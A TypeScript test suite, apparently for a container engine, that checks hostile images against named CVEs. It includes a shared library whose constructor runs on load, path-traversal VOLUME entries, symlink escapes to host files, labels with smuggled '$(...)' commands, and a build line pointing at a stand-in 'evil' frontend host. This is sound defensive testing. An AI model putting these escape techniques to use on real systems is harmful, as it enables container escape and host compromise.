import { execFileSync, spawnSync } from 'node:child_process'
import {
  existsSync,
  mkdirSync,
  readFileSync,
  readdirSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs'
import { join } from 'node:path'
import t from 'tap'
import { type RootEntries, makeImage, makeRoot, runShell } from './attack.ts'
import { commandBench } from './command-line.ts'

// Needs root. Hostile images against what the engine does by itself: copies, lists, volumes, labels, builds.

t.setTimeout(120_000)
const bench = commandBench(t)
const quiet = ['--network', 'none']
const program = join(import.meta.dirname, '../../bin/myimage')
const host = join(bench.folder, 'of-the-host')
mkdirSync(host)
writeFileSync(join(host, 'secret'), 'of the host')

function myimage(...args: string[]): { status: number | null; stdout: string; stderr: string } {
  const env = { ...process.env, MYCONTAINER_ROOT: bench.root }
  return spawnSync(program, args, { encoding: 'utf8', env, timeout: 60_000 })
}

/** An image with these changes of its configuration, as in a Dockerfile. */
function importImage(name: string, changes: readonly string[], entries: RootEntries = {}): void {
  const root = makeRoot(bench, entries)
  execFileSync('tar', ['-C', root, '-cf', `${root}.tar`, '.'])
  const words = changes.flatMap((change) => ['-c', change])
  const { status, stderr } = myimage('import', ...words, `${root}.tar`, name)
  if (status !== 0) throw new Error(stderr)
}
makeImage(bench, 'plain')

t.test(
  'CVE-2019-14271, CVE-2022-1227, CVE-2026-41567: nothing of an image is run or loaded',
  async (t) => {
    const marker = join(bench.folder, 'loaded')
    const source = join(bench.folder, 'nss.c')
    const library = join(bench.folder, 'nss.so')
    writeFileSync(
      source,
      `#include <fcntl.h>\n__attribute__((constructor)) static void f(void) { open("${marker}", O_CREAT | O_WRONLY, 0600); open("/pwned", O_CREAT | O_WRONLY, 0600); }\n`,
    )
    execFileSync('gcc', ['-shared', '-fPIC', '-o', library, source])
    const hostile = { text: '#!/bin/sh\n: > /pwned\n' }
    const names =
      'ps nsenter tar xz unxz gzip unpigz zstd bzip2 getent id newuidmap ldconfig modprobe'
    const root = makeRoot(bench, {
      'etc/nsswitch.conf': { text: 'passwd: files\ngroup: files\n' },
      ...Object.fromEntries(names.split(' ').map((name) => [`usr/bin/${name}`, hostile])),
      ...Object.fromEntries(names.split(' ').map((name) => [`usr/sbin/${name}`, hostile])),
    })
    const folders = ['lib/x86_64-linux-gnu', 'usr/lib/x86_64-linux-gnu', 'lib64', 'usr/lib']
    for (const folder of folders) {
      mkdirSync(join(root, folder), { recursive: true })
      for (const name of ['libnss_files.so.2', 'libnss_compat.so.2', 'libc.so.6'])
        execFileSync('cp', [library, join(root, folder, name)])
    }
    execFileSync('tar', ['-C', root, '-cf', `${root}.tar`, '.'])
    t.equal(myimage('import', `${root}.tar`, 'hostile').status, 0)
    const file = join(bench.folder, 'archive.tar.xz')
    execFileSync('tar', ['-C', host, '-cJf', file, 'secret'])
    await bench.ok(
      'run',
      '-d',
      ...quiet,
      '--name',
      'hostile',
      '--user',
      'guest',
      'hostile',
      'sleep',
      '1000',
    )
    const tried = async (): Promise<void> => {
      await bench.ok('cp', file, 'hostile:/tmp/')
      await bench.ok('cp', 'hostile:/etc/passwd', join(bench.folder, 'passwd'))
      await bench.run('cp', 'hostile:/tmp', '-')
      await bench.ok('diff', 'hostile')
      await bench.ok('logs', 'hostile')
      await bench.ok('inspect', 'hostile')
    }
    await tried()
    await bench.ok('top', 'hostile')
    await bench.ok('stats', '--no-stream', 'hostile')
    t.equal(await bench.ok('exec', '-u', 'guest', 'hostile', 'sh', '-c', 'echo /pwned*'), '/pwned*')
    await bench.ok('stop', '-t', '0', 'hostile')
    await tried()
    await bench
      .ok('export', 'hostile', '-o', join(bench.folder, 'exported.tar'))
      .catch(() => undefined)
    t.notMatch(await bench.ok('diff', 'hostile'), /pwned/)
    t.notOk(existsSync(marker), 'no library of it was loaded')
  },
)

t.test('CVE-2022-23648: VOLUME of an image names nothing of the host', async (t) => {
  const up = `../../../../../../../../../..${host}`
  importImage('volumes', [`VOLUME /${up} /link /link/deep`], { link: { link: up } })
  const found = await runShell(
    bench,
    'volumes',
    'cat /link/secret /link/deep/secret; find / -xdev -name secret',
  )
  t.notMatch(found.stdout, /of the host/)
  const named = await runShell(
    bench,
    'volumes',
    'cat /here/secret',
    '-v',
    'taken:/here',
    '-v',
    'other:/link',
  )
  t.notMatch(named.stdout, /of the host/)
  const volumes = join(bench.root, 'data/volumes')
  const kept = execFileSync('find', [volumes, '-name', 'secret'], { encoding: 'utf8' })
  t.equal(kept, '', 'no volume was filled from it')
  t.strictSame(readdirSync(host), ['secret'])
})

t.test(
  'CVE-2020-1726: a volume with content stays as it is, whatever the image has there',
  async (t) => {
    await bench.ok('volume', 'create', 'kept')
    const folder = await bench.ok('volume', 'inspect', '-f', '{{.Mountpoint}}', 'kept')
    writeFileSync(join(folder, 'passwd'), 'mine')
    for (const flags of [[], ['--read-only']])
      t.match(await runShell(bench, 'plain', 'cat /etc/passwd', '-v', 'kept:/etc', ...flags), {
        stdout: 'mine',
      })
    t.equal(readFileSync(join(folder, 'passwd'), 'utf8'), 'mine')
  },
)

t.test('CVE-2026-53488: labels of an image are words', async (t) => {
  const marker = join(bench.folder, 'by-label')
  const command = `touch ${marker}`
  const labels = [
    'io.podman.annotations.privileged=TRUE',
    'io.containerd.runc.v2.group=host',
    'io.kubernetes.cri-o.Devices=/dev/kmsg',
    'run.oci.hooks.stdout=/etc/passwd',
    'run.oci.keep_original_groups=1',
    'org.systemd.property.ExecStart=/bin/true',
    'mycontainer.privileged=true',
    'com.docker.compose.project.working_dir=/',
    `RUN=${command}`,
    `io.containers.autoupdate=${command}`,
    `org.opencontainers.image.ref.name=$(${command})`,
    '__proto__=1',
    'constructor=1',
  ]
  importImage(
    'labelled',
    labels.map((label) => `LABEL "${label.replace('=', '"="')}"`),
  )
  const facts = async (image: string): Promise<unknown> => {
    await bench.ok('run', '-d', ...quiet, '--name', 'one', image, 'sleep', '1000')
    const report = JSON.parse((await bench.run('audit', '--format', 'json', 'one')).stdout) as {
      facts: { mounts: unknown[] }
    }
    await bench.ok('rm', '-f', '-t', '0', 'one')
    return { ...report.facts, pid: 0, mounts: report.facts.mounts.length }
  }
  t.strictSame(await facts('labelled'), await facts('plain'))
  t.notOk(existsSync(marker))
  t.equal(({} as Record<string, unknown>)['privileged'], undefined)
})

t.test(
  'CVE-2024-9341: a host’s policy of cryptography is not mounted where an image says',
  async (t) => {
    makeImage(bench, 'fips', {
      'etc/system-fips': { text: '' },
      'etc/crypto-policies/back-ends': { link: host },
      'usr/share/crypto-policies/back-ends/FIPS': 'folder',
      'run/secrets': { link: host },
    })
    const { stdout } = await runShell(
      bench,
      'fips',
      'grep -E "crypto|fips|secrets|of-the-host" /proc/self/mountinfo; echo end',
    )
    t.equal(stdout, 'end\n')
    t.strictSame(readdirSync(host), ['secret'])
  },
)

t.test('CVE-2019-10152, CVE-2023-0778: what a volume holds is read as what it is', async (t) => {
  await bench.ok(
    'run',
    '-d',
    ...quiet,
    '--name',
    'linker',
    '-v',
    'links:/v',
    'plain',
    'sleep',
    '1000',
  )
  await bench.ok('exec', 'linker', 'sh', '-c', `ln -s ${host} /v/out; ln -s ${host}/secret /v/file`)
  const out = join(bench.folder, 'volume-out')
  mkdirSync(out)
  for (const source of ['linker:/v/out/secret', 'linker:/v/file'])
    t.not((await bench.run('cp', '-L', source, out)).exitCode, 0, source)
  await bench.ok('cp', 'linker:/v', out)
  t.equal(execFileSync('find', [out, '-type', 'f'], { encoding: 'utf8' }), '', 'links stay links')
  symlinkSync(host, join(out, 'to-host'))
  await bench.run('cp', 'linker:/etc/passwd', join(out, 'v/out'))
  t.equal(readFileSync(join(host, 'secret'), 'utf8'), 'of the host')
  await bench.ok('rm', '-f', '-t', '0', 'linker')
})

t.test(
  'CVE-2024-23653, GHSA-4c29-8rgm-jvjj: a build grants nothing that it was not given',
  async (t) => {
    const context = join(bench.folder, 'context')
    mkdirSync(context)
    const build = (text: string, ...flags: string[]): ReturnType<typeof myimage> => {
      writeFileSync(join(context, 'Dockerfile'), text)
      return myimage('build', '--no-cache', '--network', 'none', ...flags, context)
    }
    const show = 'grep CapEff /proc/self/status; grep Seccomp: /proc/self/status'
    const insecure = build(`FROM plain\nRUN --security=insecure ${show}\n`)
    t.not(insecure.status, 0, 'RUN --security=insecure')
    t.match(insecure.stderr, /insecure/)
    const foreign = build(
      `# syntax=127.0.0.1:9/evil/frontend:1\nFROM plain\nRUN ${show}; echo done > /done\n`,
    )
    t.equal(foreign.status, 0, foreign.stderr)
    t.match(foreign.stderr, /frontend 127\.0\.0\.1:9\/evil\/frontend:1 is not fetched/)
  },
)
